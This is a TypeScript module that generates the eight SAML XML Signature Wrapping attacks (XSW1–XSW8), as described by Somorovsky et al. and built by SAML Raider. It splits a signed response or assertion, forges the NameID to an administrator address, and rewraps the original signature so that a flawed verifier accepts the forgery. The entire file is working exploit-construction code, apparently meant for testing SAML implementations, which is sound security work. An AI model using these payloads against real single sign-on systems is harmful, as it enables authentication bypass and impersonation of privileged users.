/** Parts of an answer whose assertion is signed. */
interface Parts {
  /** The opening tag of the response, its issuer and status. */
  head: string;
  assertion: string;
  signature: string;
  /** The assertion without its signature. */
  bare: string;
}

const EVIL = "admin@aurora.example.com";

function partsOf(xml: string): Parts {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? "";
  const signature = /<Signature[\s\S]*?<\/Signature>/.exec(assertion)?.[0] ?? "";
  return { head: xml.slice(0, xml.indexOf(assertion)), assertion, signature, bare: assertion.replace(signature, "") };
}

const forged = (assertion: string) =>
  assertion.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${EVIL}`).replace(/ID="[^"]*"/, 'ID="_forged"');

const withSignature = (assertion: string, signature: string) =>
  assertion.replace(/(<\/saml:Issuer>)/, `$1${signature}`);

const inSignature = (signature: string, more: string) => signature.replace("</Signature>", `${more}</Signature>`);

/**
 * The eight signature wrapping attacks (Somorovsky et al., "On Breaking SAML", 2012), as the tool SAML Raider builds
 * them. Each keeps the signed part somewhere in the document, and puts a forged response or assertion where a parser
 * expects one.
 * @param response an answer with a signed response, for the first two attacks
 * @param assertion an answer with a signed assertion, for the others
 */
export function wrappings(response: string, assertion: string): Record<string, string> {
  const whole = /<Signature[\s\S]*?<\/Signature>/.exec(response)?.[0] ?? "";
  const bare = response.replace(whole, "");
  const evil = bare
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${EVIL}`)
    .replace(/(<samlp:Response[^>]*?ID=")[^"]*/, "$1_forged");
  const place = (xml: string, more: string) => xml.replace("</saml:Issuer>", `</saml:Issuer>${more}`);
  const parts = partsOf(assertion);
  const end = "</samlp:Response>";
  const fake = forged(parts.bare);
  const doc = (...content: string[]) => parts.head + content.join("") + end;
  const object = (content: string) => `<Object>${content}</Object>`;
  return {
    XSW1: place(evil, inSignature(whole, bare)),
    XSW2: place(evil, bare + whole),
    XSW3: doc(fake, parts.assertion),
    XSW4: doc(fake.replace("</saml:Assertion>", `${parts.assertion}</saml:Assertion>`)),
    XSW5: doc(withSignature(fake, parts.signature), parts.bare),
    XSW6: doc(withSignature(fake, inSignature(parts.signature, parts.bare))),
    XSW7: doc(`<samlp:Extensions>${fake}</samlp:Extensions>`, parts.assertion),
    XSW8: doc(withSignature(fake, inSignature(parts.signature, object(parts.bare)))),
  };
}
